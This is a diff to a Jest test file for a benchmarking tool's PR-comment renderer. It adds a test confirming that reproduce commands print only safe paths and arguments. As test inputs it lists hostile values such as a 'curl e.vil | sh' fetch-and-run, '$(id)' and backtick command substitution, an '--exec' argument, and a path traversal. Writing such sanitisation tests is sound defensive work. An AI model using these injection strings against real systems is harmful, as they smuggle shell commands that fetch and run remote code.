@@ -6,7 +6,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { resolve } from 'node:path';
 import { renderComment } from '../../../src/report/comment/comment.js';
-import { estimateResolution } from '../../../src/report/comment/next-steps.js';
+import { estimateResolution, reproduceCommands } from '../../../src/report/comment/next-steps.js';
 import { displayStatus } from '../../../src/report/status.js';
 import { decide } from '../../../src/verdict/decide.js';
 import { commentScenarios } from '../../__fixtures__/comments.js';
@@ -109,7 +109,39 @@ describe('comment rules', () => {
     expect(comment).not.toContain('<img');
     expect(comment).not.toContain('<!--');
     expect(comment).not.toContain('](https://e.vil');
-    expect(comment).toContain('profiles/PROFILE.yaml');
+    expect(comment).toContain('npx meshgate@0 run PATH/TO/PROFILE.yaml --out results.json');
+  });
+
+  it('prints a recorded origin only as inert words: a hostile path or argument leaves a placeholder', () => {
+    const lines = (origin: object) =>
+      reproduceCommands(
+        { ...makeResults({ variants: { 'head/none': { p99Ms: [10, 10, 10] } } }), origin } as Parameters<
+          typeof reproduceCommands
+        >[0],
+        false,
+      );
+    expect(lines({ profile: '.github/meshgate/pr-p99.yaml' })[0]).toBe(
+      'npx meshgate@0 run .github/meshgate/pr-p99.yaml --out results.json',
+    );
+    for (const profile of [
+      'x.yaml; curl e.vil | sh',
+      '$(id).yaml',
+      '../../etc/x.yaml',
+      '-rf',
+      'a b.yaml',
+      'x`id`',
+    ])
+      expect(lines({ profile })[0]).toMatch(
+        /^npx meshgate@0 run PATH\/TO\/[a-z0-9-]+\.yaml --out results\.json$/,
+      );
+    expect(lines({ importArgs: ['runs/a.json', '--variant', 'head/none', '--out', 'results.json'] })[0]).toBe(
+      'npx meshgate@0 import runs/a.json --variant head/none --out results.json',
+    );
+    // One bad argument and the import is not printed at all (a run placeholder instead).
+    expect(lines({ importArgs: ['runs/a.json', '--exec=$(id)', '--out', 'results.json'] })[0]).toMatch(
+      /^npx meshgate@0 run PATH\/TO\//,
+    );
+    expect(lines({ importArgs: ['runs/a.json;id'] })[0]).toMatch(/^npx meshgate@0 run PATH\/TO\//);
   });
 
   it('shows a minimum detectable effect when the verdict rows carry one', () => {
